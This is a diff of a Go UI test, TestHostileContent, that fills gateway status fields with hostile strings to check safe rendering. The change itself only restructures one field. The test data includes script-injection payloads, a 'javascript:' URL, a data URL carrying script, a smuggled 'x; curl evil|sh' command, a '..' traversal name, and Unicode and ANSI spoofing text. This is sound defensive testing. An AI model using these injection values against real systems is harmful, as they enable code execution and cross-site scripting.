@@ -296,7 +296,7 @@ func TestHostileContent(t *testing.T) {
 		Target: &v1alpha1.TargetStatus{Ref: "main", Commit: uitest.Target},
 		DiscoveredGateways: []v1alpha1.DiscoveredGateway{
 			{Name: script, PodName: "line-0", SyncStatus: v1alpha1.GatewayError, Reason: `"><script>alert(1)</script>`, Message: script + long, Profile: script[:60], SyncedRef: script, LastScanResult: script,
-				AgentVersion: script[:60], ProjectsSynced: []string{script}, Proposal: "javascript:alert(1)", ProposalState: v1alpha1.ProposalOpen},
+				GatewayDetails: v1alpha1.GatewayDetails{AgentVersion: script[:60]}, ProjectsSynced: []string{script}, Proposal: "javascript:alert(1)", ProposalState: v1alpha1.ProposalOpen},
 			{Name: "x; curl evil|sh", PodName: "line-2", SyncStatus: v1alpha1.GatewayError, Reason: v1alpha1.ReasonScanFailed},
 			{Name: "..", PodName: "line-1", SyncStatus: v1alpha1.GatewayHeld, Reason: v1alpha1.ReasonConflictDetected, Message: "abc\u202egnp.exe\x1b[31m", Proposal: "data:text/html,<script>alert(1)</script>", ProposalState: v1alpha1.ProposalOpen},
 		},
